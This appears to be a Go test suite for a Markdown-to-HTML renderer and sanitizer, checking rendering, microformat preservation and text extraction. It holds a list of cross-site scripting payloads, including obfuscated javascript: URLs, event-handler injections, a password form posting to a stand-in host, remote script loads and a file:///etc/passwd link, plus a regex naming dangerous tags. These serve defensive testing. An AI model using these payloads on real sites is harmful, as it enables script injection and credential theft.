package markdown_test

import (
	"regexp"
	"strings"
	"testing"

	"laurel/badges/markdown"
)

func TestMarkdownAsHTML(t *testing.T) {
	r := markdown.New()
	for source, want := range map[string]string{
		"":                                   "",
		"plain":                              "<p>plain</p>",
		"one\n\ntwo":                         "<p>one</p>\n<p>two</p>",
		"*em* **strong** ~~del~~":            "<p><em>em</em> <strong>strong</strong> <del>del</del></p>",
		"`<code>`":                           "<p><code>&lt;code&gt;</code></p>",
		"# Title":                            "<h3>Title</h3>", // below the page's own headings
		"###### Deep":                        "<h6>Deep</h6>",
		"- a\n- b":                           "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
		"1. a":                               "<ol>\n<li>a</li>\n</ol>",
		"> quoted":                           "<blockquote>\n<p>quoted</p>\n</blockquote>",
		"a & b < c":                          "<p>a &amp; b &lt; c</p>",
		"[us](https://example.org/?a=1&b=2)": `<p><a href="https://example.org/?a=1&amp;b=2" rel="nofollow noreferrer">us</a></p>`,
		"see https://example.org":            `<p>see <a href="https://example.org" rel="nofollow noreferrer">https://example.org</a></p>`,
		"<mailto:jane@example.org>":          `<p><a href="mailto:jane@example.org" rel="nofollow noreferrer">mailto:jane@example.org</a></p>`,
	} {
		if got := r.HTML(source); got != want {
			t.Errorf("HTML(%q)\n got %s\nwant %s", source, got, want)
		}
	}
}

// dangerous matches what must never come out, in whatever spelling.
var dangerous = regexp.MustCompile(`(?i)<(script|style|iframe|object|embed|svg|math|form|input|button|img|video|audio|link|meta|base|template|textarea)|` +
	`[\s"'/]on\w+\s*=|javascript:|vbscript:|data:|srcdoc|style\s*=|\sid\s*=|\sname\s*=|target\s*=`)

// attacks are HTML; each is also tried inside Markdown.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/pixel.gif">`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		"<a href=\"java\tscript:alert(1)\">x</a>",
		"<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>`,
		`<a href="vbscript:x">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="https://example.org" onclick="alert(1)">x</a>`,
		`<a href="https://example.org" target="_blank" id="x" name="x">x</a>`,
		`<p style="position:fixed;inset:0">x</p>`,
		`<p class="admin-button evil">x</p>`,
		`<style>body{display:none}</style>`,
		`<form action="https://evil.example"><input name=password><button>Go</button></form>`,
		`<base href="https://evil.example/">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<object data=x></object><embed src=x>`,
		`<template><script>alert(1)</script></template>`,
		`<textarea><script>alert(1)</script></textarea>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<!--[if IE]><script>alert(1)</script><![endif]-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<p/onmouseover=alert(1)>x</p>`,
		`"><script>alert(1)</script>`,
		`<span class="h-card" onclick=alert(1)>x</span>`,
	}
}

func TestNothingDangerousComesOut(t *testing.T) {
	r := markdown.New()
	for _, attack := range attacks() {
		for name, got := range map[string]string{
			"Sanitize":             r.Sanitize(attack),
			"HTML":                 r.HTML(attack),
			"HTML, in a paragraph": r.HTML("Hello " + attack + " world"),
			"HTML, in a list":      r.HTML("- " + attack),
		} {
			if tag := unescaped(got); dangerous.MatchString(tag) {
				t.Errorf("%s of %s\ngives %s", name, attack, got)
			}
		}
	}
}

// unescaped returns only the tags of an HTML fragment: words may say anything.
func unescaped(fragment string) string {
	return strings.Join(regexp.MustCompile(`<[^>]*>`).FindAllString(fragment, -1), "")
}

func TestMarkdownLinksThatAreDangerous(t *testing.T) {
	r := markdown.New()
	for _, source := range []string{
		"[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](&#106;avascript:alert(1))",
		"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](https://example.org \"a\\\" onclick=alert(1)\")",
		"<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "![x](https://evil.example/pixel.gif)", "![x](x \"\\\"onerror=alert(1)\")",
		"[x](file:///etc/passwd)",
	} {
		if got := unescaped(r.HTML(source)); dangerous.MatchString(got) || strings.Contains(got, "file:") {
			t.Errorf("HTML(%q) gives %s", source, got)
		}
	}
}

// What fediverse servers give meaning to survives; other classes don't.
func TestSanitizeKeepsMicroformats(t *testing.T) {
	r := markdown.New()
	for in, want := range map[string]string{
		`<p><span class="h-card"><a href="https://social.example/@jane" class="u-url mention">@<span>jane</span></a></span> yes</p>`: `<p><span class="h-card"><a href="https://social.example/@jane" class="u-url mention" rel="nofollow noreferrer">@<span>jane</span></a></span> yes</p>`,
		`<span class="invisible">https://</span>`: `<span class="invisible">https://</span>`,
		`<span class="hashtag evil">x</span>`:     `<span>x</span>`,
		`one<br>two`:                              `one<br>two`,
		`<h1>Big</h1>`:                            `Big`,
	} {
		if got := r.Sanitize(in); got != want {
			t.Errorf("Sanitize(%s)\n got %s\nwant %s", in, got, want)
		}
	}
}

func TestText(t *testing.T) {
	r := markdown.New()
	for in, want := range map[string]string{
		"<p>one</p><p>two</p>":                    "one\ntwo",
		"a<br>b<br/>c<br />d":                     "a\nb\nc\nd",
		"<ul><li>a</li><li>b</li></ul>":           "a\nb",
		"<p>1 &lt; 2 &amp; &quot;3&quot;</p>":     `1 < 2 & "3"`,
		"<p>hello <script>alert(1)</script>x</p>": "hello x",
		`<p><span class="h-card"><a href="https://laurel.example/@harbour">@<span>harbour</span></a></span> accept</p>`: "@harbour accept",
		"": "",
	} {
		if got := r.Text(in); got != want {
			t.Errorf("Text(%s) = %q, want %q", in, got, want)
		}
	}
}
